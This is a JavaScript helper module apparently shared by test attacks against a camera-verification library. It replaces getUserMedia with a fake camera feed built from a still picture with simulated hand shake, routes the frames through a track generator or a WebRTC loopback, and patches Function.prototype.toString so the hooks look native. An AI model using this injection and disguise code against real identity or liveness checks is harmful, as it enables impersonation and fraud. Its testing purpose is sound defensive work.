// deno-lint-ignore-file no-unused-vars
/**
 * What the attacks of this folder share; the site puts it in front of each of them, in one function. An attack runs
 * before the library is loaded, with the rights of a userscript or an extension in the page's world.
 */
const FRAME_MS = 33;
const realGetUserMedia = MediaDevices.prototype.getUserMedia;
const realToString = Function.prototype.toString;

/** The attacker's picture, in the camera's size. */
async function materialCanvas(width = 1280, height = 720) {
  const picture = await createImageBitmap(await (await fetch("material.jpg")).blob());
  const canvas = document.createElement("canvas");
  canvas.width = width;
  canvas.height = height;
  drawMaterial(canvas, picture);
  return { canvas, picture };
}

function drawMaterial(canvas, picture, dx = 0, dy = 0) {
  const scale = Math.max(canvas.width / picture.width, canvas.height / picture.height) * 1.02;
  const [width, height] = [scale * picture.width, scale * picture.height];
  canvas.getContext("2d").drawImage(
    picture,
    (canvas.width - width) / 2 + dx,
    (canvas.height - height) / 2 + dy,
    width,
    height,
  );
}

/** A canvas that shows the picture as an unsteady hand would hold it. */
async function liveCanvas() {
  const { canvas, picture } = await materialCanvas();
  let frame = 0;
  setInterval(() => {
    frame++;
    drawMaterial(canvas, picture, 4 * Math.sin(frame / 17), 3 * Math.cos(frame / 23));
  }, FRAME_MS);
  return canvas;
}

async function canvasStream() {
  return (await liveCanvas()).captureStream(30);
}

/** The picture as the browser's own canvas encodes it, so that the encoder's marks are right. */
async function materialJpeg(width, height) {
  const { canvas } = await materialCanvas(width, height);
  return await new Promise((done) => canvas.toBlob(done, "image/jpeg", 0.95));
}

/** Replaced functions, and the text that they are to show. */
const disguises = new Map();

/**
 * The careful hook: a method without prototype in place of the native one, and a `Function.prototype.toString` that
 * lies about both.
 */
function hookQuietly(owner, name, make) {
  const descriptor = Object.getOwnPropertyDescriptor(owner, name);
  const kind = descriptor.get === undefined ? "value" : "get";
  const real = descriptor[kind];
  const hook = make(real);
  Object.defineProperty(hook, "name", { value: real.name, configurable: true });
  Object.defineProperty(hook, "length", { value: real.length, configurable: true });
  Object.defineProperty(owner, name, { ...descriptor, [kind]: hook });
  disguise(hook, real);
}

function disguise(hook, real) {
  if (disguises.size === 0) {
    const patched = {
      toString() {
        return disguises.get(this) ?? realToString.call(this);
      },
    }.toString;
    disguises.set(patched, realToString.call(realToString));
    Object.defineProperty(Function.prototype, "toString", {
      value: patched,
      writable: true,
      configurable: true,
      enumerable: false,
    });
  }
  disguises.set(hook, realToString.call(real));
}

/** Frames of a canvas, made by hand and pushed into a track of the page's own. */
function generatorStream(canvas) {
  const track = new MediaStreamTrackGenerator({ kind: "video" });
  const writer = track.writable.getWriter();
  const started = performance.now();
  setInterval(() => {
    const frame = new VideoFrame(canvas, { timestamp: Math.round(1000 * (performance.now() - started)) });
    writer.write(frame).catch(() => {});
  }, FRAME_MS);
  return new MediaStream([track]);
}

/** A stream that went through a peer connection with itself: a plain MediaStreamTrack again at the other end. */
async function loopedStream(source) {
  // With a granted camera the browser offers plain addresses, and the two ends meet at once.
  await realGetUserMedia.call(navigator.mediaDevices, { video: true });
  const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
  here.onicecandidate = ({ candidate }) => candidate && there.addIceCandidate(candidate);
  there.onicecandidate = ({ candidate }) => candidate && here.addIceCandidate(candidate);
  const arrived = new Promise((resolve) => there.ontrack = ({ track }) => resolve(track));
  const [picture] = source.getVideoTracks();
  picture.contentHint = "detail"; // Full size from the start.
  here.addTrack(picture, source);
  await here.setLocalDescription(await here.createOffer());
  await there.setRemoteDescription(here.localDescription);
  await there.setLocalDescription(await there.createAnswer());
  await here.setRemoteDescription(there.localDescription);
  const track = await arrived;
  globalThis.connections = [here, there];
  await grown(track);
  return new MediaStream([track]);
}

/** Waits until the connection carries the whole picture: its first frames are small. */
async function grown(track) {
  const video = document.createElement("video");
  video.muted = true;
  video.srcObject = new MediaStream([track]);
  await video.play();
  const deadline = performance.now() + 15_000;
  while (video.videoHeight < 480 && performance.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** Gives the page `makeStream()` instead of the camera's, with the careful hook. */
function injectStream(makeStream) {
  hookQuietly(MediaDevices.prototype, "getUserMedia", () => ({
    async getUserMedia() {
      return await makeStream();
    },
  }.getUserMedia));
}
